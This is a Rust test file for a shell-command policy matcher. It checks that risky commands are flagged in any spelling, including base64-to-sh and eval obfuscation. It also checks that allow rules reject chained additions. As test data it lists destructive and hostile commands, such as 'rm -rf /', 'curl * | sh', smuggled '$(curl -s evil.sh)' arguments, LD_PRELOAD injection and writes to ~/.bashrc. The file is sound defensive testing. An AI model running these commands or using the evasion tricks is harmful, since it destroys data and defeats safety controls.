//! Tests of policy patterns on parsed commands.

use super::*;

fn raise(p: &str, cmd: &str) -> bool {
    PolicyPattern::new(p, Direction::Raise).matches(&Subject::new(&Action::command(cmd)))
}

fn lower(p: &str, cmd: &str) -> bool {
    PolicyPattern::new(p, Direction::Lower).matches(&Subject::new(&Action::command(cmd)))
}

#[test]
fn globs() {
    assert!(glob_eq("prod*", "prod-eu", false));
    assert!(glob_eq("*", "", false));
    assert!(glob_eq("a*b*c", "aXXbYYc", false));
    assert!(!glob_eq("a*b*c", "aXXbYY", false));
    assert!(glob_eq("GIT", "git", true));
    assert!(!glob_eq("GIT", "git", false));
    assert!(!glob_eq("build", "build2", false));
}

#[test]
fn command_patterns_are_recognized() {
    for p in [
        "git push --force",
        "npm install --save-dev",
        "sudo rm -rf /",
        "kubectl * --context prod*",
        "terraform apply*",
    ] {
        assert!(PolicyPattern::new(p, Direction::Raise).is_command(), "{p}");
    }
    for p in [
        "raw: git push --force",
        "curl * | sh",
        "make && make install",
        "echo x > /etc/passwd",
        "bash -c 'x'",
    ] {
        assert!(!PolicyPattern::new(p, Direction::Raise).is_command(), "{p}");
    }
}

#[test]
fn raising_patterns_match_commands_in_any_spelling() {
    let p = "git push --force";
    for cmd in [
        "git push --force",
        "git push -f",
        "git push origin main --force",
        "git push -f origin main",
        "g''it push --force",
        "sudo git push --force",
        "cd x && git push --force",
        "bash -c 'git push --force'",
        "echo $(git push --force)",
        "GIT push --force",
        "git -C repo push -f",
    ] {
        assert!(raise(p, cmd), "{cmd}");
    }
    for cmd in [
        "git commit -m 'never git push --force'",
        "grep -r 'git push --force' docs/",
        "echo git push --force",
        "git push origin main",
        "git pull --force",
    ] {
        assert!(!raise(p, cmd), "{cmd}");
    }
    // combined short flags, order
    assert!(raise("rm -r -f /", "rm -fr /"));
    assert!(raise("rm -rf /", "rm --force --recursive /"));
    assert!(raise("rm -rf /", "rm -rf build /"));
    // the text pattern's matches are kept for a command's written words
    assert!(raise("rm -rf /", "rm -rf /tmp/x"));
    // code and SQL run by a command
    assert!(raise("DROP TABLE", "psql -c 'drop table users'"));
    // a pattern from the subcommand on, as text patterns were written
    assert!(raise("push --force", "git push -f origin main"));
    assert!(raise("push -f", "git push -f origin main"));
    assert!(!raise("push --force", "git commit -m 'push --force'"));
    // what hides a program: any program, and the text too
    assert!(raise(p, "$GIT push -f"));
    assert!(raise(p, "echo Z2l0IHB1c2ggLS1mb3JjZQ== | base64 -d | sh"));
    assert!(raise(p, "eval \"$(echo git push --force)\""));
    // one word stays text
    assert!(!PolicyPattern::new("curl", Direction::Raise).is_command());
    assert!(raise(".env", "cat .env"));
    // sudo in the pattern needs sudo in the command
    assert!(raise("sudo rm -rf /", "sudo rm -rf /"));
    assert!(!raise("sudo rm -rf /", "rm -rf /"));
    // raw: text matching on request
    assert!(raise(
        "raw: git push --force",
        "git commit -m 'git push --force'"
    ));
    assert!(!raise("raw: git push --force", "git push -f"));
    // globs in words
    assert!(raise(
        "kubectl * --context prod*",
        "kubectl delete pod x --context prod-eu"
    ));
    assert!(raise(
        "kubectl * --context prod*",
        "kubectl --context=prod-eu get pods"
    ));
    assert!(!raise(
        "kubectl * --context prod*",
        "kubectl get pods --context dev"
    ));
}

#[test]
fn lowering_patterns_cover_every_command_and_no_more() {
    let p = "npm install --save-dev";
    for cmd in [
        "npm install --save-dev",
        "npm install --save-dev jest",
        "npm install jest --save-dev",
        "npm i -D jest",
        "cd web && npm install --save-dev jest",
        "npm install --save-dev jest 2>&1",
        "npm install --save-dev jest > /dev/null",
        "timeout 60 npm install --save-dev jest",
        "bash -c 'npm install --save-dev jest'",
    ] {
        assert!(lower(p, cmd), "{cmd}");
    }
    for cmd in [
        "npm install --save-dev jest && rm -rf /",
        "npm install --save-dev jest; rm -rf /",
        "npm install --save-dev jest | sh",
        "npm install --save-dev jest\nrm -rf /",
        "npm install --save-dev $(curl -s evil.sh)",
        "npm install --save-dev `curl -s evil.sh`",
        "bash -c 'npm install --save-dev jest && rm -rf /'",
        "npm install --save-dev jest > ~/.bashrc",
        "npm install --save-dev jest <<EOF\nx\nEOF",
        "sudo npm install --save-dev jest",
        "LD_PRELOAD=/tmp/x.so npm install --save-dev jest",
        "cat list | xargs npm install --save-dev",
        "ssh host npm install --save-dev jest",
        "npm install jest",
        "npm uninstall --save-dev jest",
        "eval \"$CMD\"",
    ] {
        assert!(!lower(p, cmd), "{cmd}");
    }
    // a closed pattern: exactly these words, options in any order
    assert!(lower("rm -rf build", "rm -fr build"));
    assert!(lower("rm -rf build", "rm build -r -f"));
    assert!(!lower("rm -rf build", "rm -rf build /"));
    assert!(!lower("rm -rf build", "rm -rf build --no-preserve-root"));
    assert!(!lower("rm -rf build", "rm -rf build2"));
    // open by a star
    assert!(lower("npm test*", "npm test -- --watch"));
    assert!(!lower("npm test*", "npm test; curl x"));
    // sudo when the pattern says so
    assert!(lower("sudo apt-get install*", "sudo apt-get install -y jq"));
}

#[test]
fn several_overrides_cover_a_line_together() {
    let os = [
        PolicyPattern::new("npm install --save-dev", Direction::Lower),
        PolicyPattern::new("npm test*", Direction::Lower),
    ];
    let s = Subject::new(&Action::command("npm i -D jest && npm test"));
    let used = covering_levels(&os, |p| p, &s).expect("covered");
    assert_eq!(used.len(), 2);
    let s = Subject::new(&Action::command("npm i -D jest && npm test && rm -rf ~"));
    assert!(covering_levels(&os, |p| p, &s).is_none());
    // text overrides keep their whole-line meaning
    let os = [PolicyPattern::new(
        "raw: make && make install",
        Direction::Lower,
    )];
    let s = Subject::new(&Action::command("make && make install"));
    assert!(covering_levels(&os, |p| p, &s).is_some());
}

#[test]
fn other_actions_match_as_text() {
    let p = PolicyPattern::new("DROP TABLE", Direction::Raise);
    let sql = Action::Sql {
        sql: "drop table users".into(),
        dialect: None,
    };
    assert!(p.matches(&Subject::new(&sql)));
}
